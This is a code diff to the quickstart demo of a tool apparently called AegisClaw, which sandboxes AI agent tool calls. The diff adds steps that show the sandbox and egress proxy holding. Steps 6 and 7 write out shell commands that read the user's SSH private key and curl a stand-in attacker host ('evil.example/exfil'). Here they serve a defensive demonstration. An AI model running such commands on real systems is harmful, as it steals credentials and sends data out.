@@ -6,7 +6,7 @@
  * what the "model" chooses to do.
  */
 import { copyFileSync, existsSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
-import { tmpdir } from "node:os";
+import { homedir, tmpdir } from "node:os";
 import { join } from "node:path";
 import { DatabaseSync } from "node:sqlite";
 import type { Command } from "commander";
@@ -19,7 +19,7 @@ import { openRuntime } from "../runtime.ts";
 import { openProfile } from "../config/profile.ts";
 import { initAndOpen } from "./init.ts";
 import type { Cli } from "./program.ts";
-import { decisionBadge, printJson, println, style } from "./output.ts";
+import { decisionBadge, printJson, printable, println, style } from "./output.ts";
 
 interface Step {
   readonly title: string;
@@ -59,7 +59,7 @@ export function registerQuickstart(program: Command, cli: Cli): void {
 async function runScenario(home: string, workspace: string, out: (t?: string) => void, json: boolean, ephemeral: boolean): Promise<number> {
   out(style.bold("AegisClaw quickstart"));
   out(`Every tool call an agent makes passes the envelope: policy → approval → secrets → sandbox → redaction → audit.`);
-  out(`Here a scripted "model" makes four tool calls. Policy, tools and the audit log are real.`);
+  out(`Here a scripted "model" makes four tool calls, then you run three commands in the sandbox. Policy, tools and the audit log are real.`);
   out();
   await initAndOpen(home, workspace);
   // An existing profile keeps the workspace its config names.
@@ -100,6 +100,33 @@ async function runScenario(home: string, workspace: string, out: (t?: string) =>
       story: "You are on the allowlist in policy.yaml (email-send-allowlist), the context is clean: allowed, queued in the outbox.",
       proposal: { tool: "email.send", args: { to: "you@example.invalid", subject: "Your notes", body: "Dentist on Tuesday 10:00." }, session: "quickstart", actor: "model:scripted", labels: ["trusted:owner"] },
     },
+    {
+      title: "5. You run a command yourself: aegisclaw exec -- cat notes.txt",
+      story: "Your own command (actor owner) runs without a prompt — inside the bubblewrap sandbox, which sees the workspace read-only and nothing else.",
+      proposal: { tool: "shell.exec", args: { argv: ["cat", "notes.txt"] }, session: "quickstart", actor: "owner", labels: ["trusted:owner"] },
+    },
+    {
+      title: "6. The same sandbox, a command that reaches for your SSH key and the internet",
+      story: "Policy allows the command, but the sandbox has no home directory and no network: the key is not there and the name does not resolve. Nothing leaves this machine.",
+      proposal: {
+        tool: "shell.exec",
+        args: { argv: ["sh", "-c", `cat ${homedir()}/.ssh/id_ed25519; curl -sS -m 3 https://evil.example/ 2>&1; true`] },
+        session: "quickstart",
+        actor: "owner",
+        labels: ["trusted:owner"],
+      },
+    },
+    {
+      title: "7. With --allow-net api.github.com, the command tries another host",
+      story: "Its only way out is the egress proxy, which answers 403 for any host not on the list — before any DNS lookup, so again nothing leaves.",
+      proposal: {
+        tool: "shell.exec",
+        args: { argv: ["sh", "-c", "curl -sS -m 5 http://evil.example/exfil 2>&1; true"], allow_net: ["api.github.com"] },
+        session: "quickstart",
+        actor: "owner",
+        labels: ["trusted:owner"],
+      },
+    },
   ];
 
   const results: EnvelopeResult[] = [];
@@ -114,7 +141,10 @@ async function runScenario(home: string, workspace: string, out: (t?: string) =>
       const verdict = r.outcome === "executed" ? style.green("executed") : r.approval && !r.approval.approved ? `not approved (${r.approval.channel})` : r.outcome;
       out(`   → ${decisionBadge(r.decision)} ${verdict}  ${style.dim(`rule ${r.rule ?? "(none: default deny)"}`)}`);
       out(`     ${r.reason}`);
-      if (r.outcome === "executed") out(`     output: ${style.dim(r.output.split("\n")[0] ?? "")}`);
+      if (r.outcome === "executed") {
+        const lines = r.output.split("\n").filter((l) => l.trim() !== "").slice(0, step.proposal.tool === "shell.exec" ? 3 : 1);
+        for (const [i, line] of lines.entries()) out(`     ${i === 0 ? "output: " : "        "}${style.dim(printable(line.slice(0, 160)))}`);
+      }
       out();
     }
   } finally {
@@ -126,7 +156,7 @@ async function runScenario(home: string, workspace: string, out: (t?: string) =>
   const key = trustedCheckpointKey(paths);
   const reader = openAuditReader(paths);
   const report = await verifyAuditLog(reader.scan(), await reader.checkpoints(), key).finally(() => reader.close());
-  out(style.bold("5. aegisclaw audit verify"));
+  out(style.bold(`${String(steps.length + 1)}. aegisclaw audit verify`));
   out(report.ok ? `   ${style.green("✔ intact")}: ${report.entries} entries, ${report.checkpoints} signed checkpoint(s), root ${report.rootHash.slice(0, 16)}…` : `   ${style.red("✘ damaged")}: ${report.damage?.message ?? ""}`);
 
   const tamperedPath = join(paths.home, "audit-tampered-copy.db");
@@ -151,13 +181,23 @@ async function runScenario(home: string, workspace: string, out: (t?: string) =>
   out("   aegisclaw logs                     what was decided, and why");
   out("   aegisclaw doctor                   what this machine can enforce");
 
-  const expected = ["allow", "deny", "ask", "allow"];
-  const asExpected = results.every((r, i) => r.decision === expected[i]) && report.ok && !tampered.ok;
+  const expected = ["allow", "deny", "ask", "allow", "allow", "allow", "allow"];
+  // The sandbox steps ran, and what they reached for was not there.
+  const sandboxHeld =
+    results[4]?.outcome === "executed" &&
+    results[4].output.includes("Dentist") &&
+    results[5]?.outcome === "executed" &&
+    /No such file/.test(results[5].output) &&
+    !results[5].output.includes("PRIVATE KEY") &&
+    results[6]?.outcome === "executed" &&
+    /403|not in/.test(results[6].output);
+  const asExpected = results.every((r, i) => r.decision === expected[i]) && sandboxHeld && report.ok && !tampered.ok;
   if (json) {
     printJson({
       ok: asExpected,
       home,
-      steps: results.map((r, i) => ({ title: steps[i]?.title, tool: steps[i]?.proposal.tool, decision: r.decision, outcome: r.outcome, rule: r.rule ?? null, reason: r.reason, approval: r.approval ?? null })),
+      steps: results.map((r, i) => ({ title: steps[i]?.title, tool: steps[i]?.proposal.tool, decision: r.decision, outcome: r.outcome, rule: r.rule ?? null, reason: r.reason, approval: r.approval ?? null, ...(steps[i]?.proposal.tool === "shell.exec" ? { output: r.output } : {}) })),
+      sandboxHeld,
       verify: report,
       tamperDetected: !tampered.ok,
       tamper: tampered.damage ?? null,
